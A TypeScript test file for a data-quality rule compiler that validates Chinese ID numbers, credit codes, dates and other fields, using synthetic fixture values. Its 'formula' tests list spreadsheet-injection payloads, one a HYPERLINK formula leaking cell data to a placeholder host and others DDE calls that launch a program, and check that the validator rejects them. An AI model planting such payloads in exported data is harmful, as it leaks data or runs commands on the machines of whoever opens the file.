import { describe, expect, it } from 'vitest';
import { elementSchema } from '../../catalog/index.js';
import type { Element, ElementInput } from '../../catalog/index.js';
import { creditCodeCheckChar, idCheckChar } from '../../platform/validators/index.js';
import { compileRules } from './compile.js';
import type { QualityRule, RuleSet } from './rule-set.js';

const TODAY = '2026-11-27';
const el = (code: string, name: string, extra: Partial<ElementInput> = {}): Element =>
  elementSchema.parse({ code, name, type: 'string', ...extra });
const withCheck = (body: string) => body + idCheckChar(body);

interface Seen {
  rule: string;
  element: string;
  value: string | null;
  message: string;
}

/** Runs rules on one record given by element code; returns the verdict and the problems. */
function check(elements: Element[], rules: QualityRule[], record: Record<string, string | null>, cleansing: RuleSet['cleansing'] = {}) {
  const compiled = compileRules(elements, { cleansing, rules }, { today: TODAY });
  const values = elements.map((e) => record[e.code] ?? null);
  compiled.cleanse(values);
  const problems: Seen[] = [];
  const verdict = compiled.check(values, (r, e, value, message) =>
    problems.push({ rule: compiled.rules[r]!.id, element: elements[e]!.code, value, message }),
  );
  return { verdict, problems, values };
}

const ID = el('id_number', '公民身份号码', { standardRef: 'GB 11643' });
const idRule: QualityRule[] = [{ element: 'id_number', kind: 'id_number' }];
const idMessage = (v: string) => check([ID], idRule, { id_number: v }).problems.map((p) => p.message);

describe('id_number (GB 11643)', () => {
  it('accepts valid numbers: X check characters and legacy 15-digit numbers', () => {
    for (const v of ['11010519491231002X', '440524188001010014', '350521860101131', '350503198503121238'])
      expect(idMessage(v), v).toEqual([]);
  });
  it('names the problem, Chinese first, with the element name', () => {
    expect(idMessage('110105194912310021')).toEqual(['公民身份号码校验位错误 (id_number: ID number check character is wrong)']);
    expect(idMessage(withCheck('99010519491231002'))[0]).toMatch(/^公民身份号码的行政区划代码不存在/);
    expect(idMessage(withCheck('35050019990230123'))[0]).toMatch(/^公民身份号码中的出生日期不存在/);
    expect(idMessage(withCheck('35050320300101123'))[0]).toMatch(/^公民身份号码中的出生日期晚于今天/);
    expect(idMessage(withCheck('35050320261128123'))[0]).toMatch(/晚于今天/); // tomorrow
    expect(idMessage(withCheck('35050320261127123'))).toEqual([]); // born today
    expect(idMessage('3505001990010112')[0]).toMatch(/^公民身份号码格式错误/);
    expect(idMessage('35050019900101123Y')[0]).toMatch(/格式错误/);
  });
  it('a lower-case x fails the rule but is repaired by cleansing', () => {
    expect(idMessage('11010519491231002x')[0]).toMatch(/格式错误/);
    const cleansed = check([ID], idRule, { id_number: ' 11010519491231002x ' }, { id_number: ['trim', 'id_upper_x'] });
    expect(cleansed.values).toEqual(['11010519491231002X']);
    expect(cleansed.verdict).toBe(0);
  });
});

describe('credit_code (GB 32100)', () => {
  const CC = el('credit_code', '统一社会信用代码', { standardRef: 'GB 32100' });
  const run = (v: string) =>
    check([CC], [{ element: 'credit_code', kind: 'credit_code' }], { credit_code: v }).problems.map((p) => p.message);
  it('accepts a valid code and finds a wrong check character or a bad character', () => {
    expect(run('91350100M000100Y43')).toEqual([]);
    expect(run('91350500MA2XY1234' + creditCodeCheckChar('91350500MA2XY1234'))).toEqual([]);
    expect(run('91350100M000100Y44')).toEqual(['统一社会信用代码校验位错误 (credit_code: credit code check character is wrong)']);
    expect(run('91350100M000100O43')[0]).toMatch(/格式错误/); // O is not in the set
    expect(run('9135010OM000100Y43')[0]).toMatch(/格式错误/); // the region part is digits
    expect(run('91350100M000100Y4')[0]).toMatch(/格式错误/);
  });
});

describe('dates', () => {
  const D = el('birth_date', '出生日期', { type: 'date' });
  const rules: QualityRule[] = [
    { element: 'birth_date', kind: 'date' },
    { element: 'birth_date', kind: 'not_future' },
  ];
  const run = (v: string) => check([D], rules, { birth_date: v }).problems.map((p) => p.rule);
  it('refuses dates that do not exist and dates after today', () => {
    expect(run('2024-02-29')).toEqual([]);
    expect(run('2023-02-29')).toEqual(['date:birth_date']);
    expect(run('2024-13-01')).toEqual(['date:birth_date']);
    expect(run('2024/1/5')).toEqual(['date:birth_date']); // not cleansed here
    expect(run(TODAY)).toEqual([]);
    expect(run('2026-11-28')).toEqual(['not_future:birth_date']);
  });
});

describe('id_consistency', () => {
  const elements = [ID, el('sex', '性别', { codeTable: 'GB/T 2261.1' }), el('birth_date', '出生日期', { type: 'date' })];
  const rules: QualityRule[] = [{ element: 'id_number', kind: 'id_consistency', birthElement: 'birth_date', sexElement: 'sex' }];
  const male = '350503198503121238';
  const female = '350503198503121246';
  it('passes when birth date and sex agree with the ID number', () => {
    expect(check(elements, rules, { id_number: male, sex: '1', birth_date: '1985-03-12' }).problems).toEqual([]);
    expect(check(elements, rules, { id_number: female, sex: '2', birth_date: '1985-03-12' }).problems).toEqual([]);
    expect(check(elements, rules, { id_number: '350521860101131', sex: '1', birth_date: '1986-01-01' }).problems).toEqual([]);
  });
  it('names the disagreeing element, for the birth date and for the sex', () => {
    const r = check(elements, rules, { id_number: male, sex: '2', birth_date: '1985-03-13' });
    expect(r.verdict).toBe(2);
    expect(r.problems).toEqual([
      {
        rule: 'id_consistency:id_number',
        element: 'birth_date',
        value: '1985-03-13',
        message: '出生日期与公民身份号码中的出生日期不一致 (birth_date: does not agree with the birth date in id_number)',
      },
      {
        rule: 'id_consistency:id_number',
        element: 'sex',
        value: '2',
        message: '性别与公民身份号码中的性别不一致 (sex: does not agree with the sex in id_number)',
      },
    ]);
    expect(check(elements, rules, { id_number: female, sex: '1' }).problems.map((p) => p.element)).toEqual(['sex']);
  });
  it('compares only a valid ID number, and only known sexes and real dates', () => {
    expect(check(elements, rules, { id_number: '350503198503121239', sex: '2', birth_date: '1999-01-01' }).problems).toEqual([]);
    expect(check(elements, rules, { id_number: male, sex: '9', birth_date: '2023-02-29' }).problems).toEqual([]);
  });
  it('compares after cleansing: 女 becomes 2 and 1985/3/12 becomes 1985-03-12', () => {
    const cleansing = { sex: [{ codeTable: 'GB/T 2261.1' }], birth_date: ['date' as const] };
    expect(check(elements, rules, { id_number: female, sex: '女', birth_date: '1985/3/12' }, cleansing).problems).toEqual([]);
    expect(
      check(elements, rules, { id_number: female, sex: '男', birth_date: '1985/3/12' }, cleansing).problems.map((p) => p.element),
    ).toEqual(['sex']);
  });
});

describe('formula', () => {
  const T = el('remark', '备注');
  const run = (v: string) => check([T], [{ element: 'remark', kind: 'formula' }], { remark: v }).verdict;
  it('rejects text a spreadsheet would run', () => {
    for (const v of [
      '=HYPERLINK("http://x.example/?"&A1,"点击")',
      "=cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      "+cmd|' /C calc'!A0",
      '-2+3',
      ' =1+1',
    ])
      expect(run(v), v).toBe(2);
  });
  it('lets phones, negative numbers, dates and ordinary text through', () => {
    for (const v of ['+8613800138000', '+86 138-0013-8000', '-12.5', '-1,234.50', '2024-01-05', '张三=李四', 'a@b.cn'])
      expect(run(v), v).toBe(0);
  });
});

describe('other kinds', () => {
  it('type checks integers, decimals by precision, booleans and date-times', () => {
    const elements = [
      el('n', '数量', { type: 'integer' }),
      el('amount', '金额', { type: 'decimal', precision: 2 }),
      el('flag', '是否有效', { type: 'boolean' }),
      el('at', '登记时间', { type: 'datetime' }),
    ];
    const rules: QualityRule[] = elements.map((e) => ({ element: e.code, kind: 'type' }));
    const bad = (r: Record<string, string>) => check(elements, rules, r).problems.map((p) => p.element);
    expect(bad({ n: '-42', amount: '1234.50', flag: '是', at: '2024-01-05T08:30:00' })).toEqual([]);
    expect(bad({ n: '+7', amount: '-3', flag: 'TRUE', at: '2024-01-05 08:30:00+08:00' })).toEqual([]);
    expect(bad({ n: '4.0', amount: '1.234', flag: 'yes', at: '2024-01-05' })).toEqual(['n', 'amount', 'flag', 'at']);
    expect(bad({ n: '1e3', amount: '.5', flag: '2', at: '2024-02-30T08:00:00' })).toEqual(['n', 'amount', 'flag', 'at']);
  });
  it('length counts characters, not bytes or UTF-16 units', () => {
    const elements = [el('name', '姓名')];
    const rules: QualityRule[] = [{ element: 'name', kind: 'length', min: 2, max: 4 }];
    const messages = (v: string) => check(elements, rules, { name: v }).problems.map((p) => p.message);
    expect(messages('欧阳娜娜')).toEqual([]);
    expect(messages('𠮷𠮷')).toEqual([]); // two characters outside the BMP, four UTF-16 units
    expect(messages('𠮷')).toEqual(['姓名长度不应少于 2 个字符 (name: must have at least 2 characters)']);
    expect(messages('欧阳娜娜娜')).toEqual(['姓名长度不应超过 4 个字符 (name: must have at most 4 characters)']);
  });
  it('pattern matches the whole value; enum, range and code_table check their values', () => {
    const elements = [
      el('plate', '车牌号'),
      el('level', '等级'),
      el('age', '年龄', { type: 'integer' }),
      el('on', '日期', { type: 'date' }),
      el('nation', '民族'),
    ];
    const rules: QualityRule[] = [
      { element: 'plate', kind: 'pattern', pattern: '闽[A-Z][A-Z0-9]{5}' },
      { element: 'level', kind: 'enum', values: ['一级', '二级'] },
      { element: 'age', kind: 'range', min: 0, max: 150 },
      { element: 'on', kind: 'range', min: '2000-01-01', max: '2030-12-31' },
      { element: 'nation', kind: 'code_table', table: 'GB/T 3304' },
    ];
    const bad = (r: Record<string, string>) => check(elements, rules, r).problems.map((p) => p.rule);
    expect(bad({ plate: '闽C12345', level: '一级', age: '150', on: '2000-01-01', nation: '56' })).toEqual([]);
    expect(bad({ plate: 'x闽C12345', level: '三级', age: '151', on: '1999-12-31', nation: '57' })).toEqual([
      'pattern:plate',
      'enum:level',
      'range:age',
      'range:on',
      'code_table:nation',
    ]);
    expect(bad({ age: 'abc', on: '2024-02-30' })).toEqual([]); // not numbers or dates: the type rules report them
  });
  it('required is the only kind that looks at empty values', () => {
    const elements = [el('name', '姓名'), el('phone', '联系电话')];
    const rules: QualityRule[] = [
      { element: 'name', kind: 'required' },
      { element: 'phone', kind: 'phone' },
    ];
    expect(check(elements, rules, { name: null, phone: null }).problems).toEqual([
      { rule: 'required:name', element: 'name', value: null, message: '姓名不能为空 (name: a value is required)' },
    ]);
    expect(check(elements, rules, { name: '', phone: '' }).problems.map((p) => p.rule)).toEqual(['required:name']);
  });
  it('a custom message replaces the generated one', () => {
    const r = check([el('name', '姓名')], [{ element: 'name', kind: 'required', message: '请填写姓名' }], {});
    expect(r.problems[0]!.message).toBe('请填写姓名');
  });
});

describe('severity and verdicts', () => {
  const elements = [el('code', '编码', { key: true }), el('phone', '联系电话'), el('email', '电子邮箱')];
  const rules: QualityRule[] = [
    { element: 'code', kind: 'length', max: 4, severity: 'warning' },
    { element: 'phone', kind: 'phone', severity: 'warning' },
    { element: 'email', kind: 'email' },
  ];
  it('a warning lets the record through; an error rejects it', () => {
    expect(check(elements, rules, { code: 'A1', phone: '123', email: 'a@b.cn' }).verdict).toBe(1);
    expect(check(elements, rules, { code: 'A1', phone: '13800138000', email: 'a@b' }).verdict).toBe(2);
    expect(check(elements, rules, { code: 'A1', phone: '13800138000', email: 'a@b.cn' }).verdict).toBe(0);
  });
  it('a failure on a key element is an error whatever the declared severity', () => {
    const compiled = compileRules(elements, { cleansing: {}, rules }, { today: TODAY });
    expect(compiled.rules.map((r) => r.severity)).toEqual(['error', 'warning', 'error']);
    expect(check(elements, rules, { code: 'A12345', phone: '13800138000' }).verdict).toBe(2);
  });
  it('id_consistency is an error when the ID element is a key, even if declared a warning', () => {
    const els = [el('id_number', '公民身份号码', { key: true }), el('sex', '性别')];
    const r = check(els, [{ element: 'id_number', kind: 'id_consistency', severity: 'warning' }], {
      id_number: '350503198503121238',
      sex: '2',
    });
    expect(r.verdict).toBe(2);
  });
  it('reports dimensions and defaults: ids, dimensions, overrides', () => {
    const compiled = compileRules(
      elements,
      { cleansing: {}, rules: [...rules, { id: 'fresh', element: 'code', kind: 'pattern', pattern: 'A.*', dimension: 'timeliness' }] },
      { today: TODAY },
    );
    expect(compiled.rules.map((r) => [r.id, r.kind, r.dimension])).toEqual([
      ['length:code', 'length', 'normativity'],
      ['phone:phone', 'phone', 'accuracy'],
      ['email:email', 'email', 'accuracy'],
      ['fresh', 'pattern', 'timeliness'],
    ]);
  });
});

describe('counters for scoring', () => {
  it('count examined and failed values per rule until reset', () => {
    const elements = [el('name', '姓名'), el('phone', '联系电话')];
    const compiled = compileRules(
      elements,
      {
        cleansing: { phone: ['trim', 'null_tokens', 'phone'] },
        rules: [
          { element: 'name', kind: 'required' },
          { element: 'phone', kind: 'phone' },
        ],
      },
      { today: TODAY },
    );
    const records = [
      ['张三', '+86 138-0013-8000'],
      [null, '无'],
      ['李四', '12345'],
      ['王五', null],
    ];
    let changed = 0;
    for (const r of records) {
      changed += compiled.cleanse(r);
      compiled.check(r, () => {});
    }
    expect(changed).toBe(2); // the phone repaired, 无 emptied
    expect([...compiled.checked]).toEqual([4, 2]); // empty phones are not examined
    expect([...compiled.failed]).toEqual([1, 1]);
    compiled.resetCounters();
    expect([...compiled.checked, ...compiled.failed]).toEqual([0, 0, 0, 0]);
  });
});
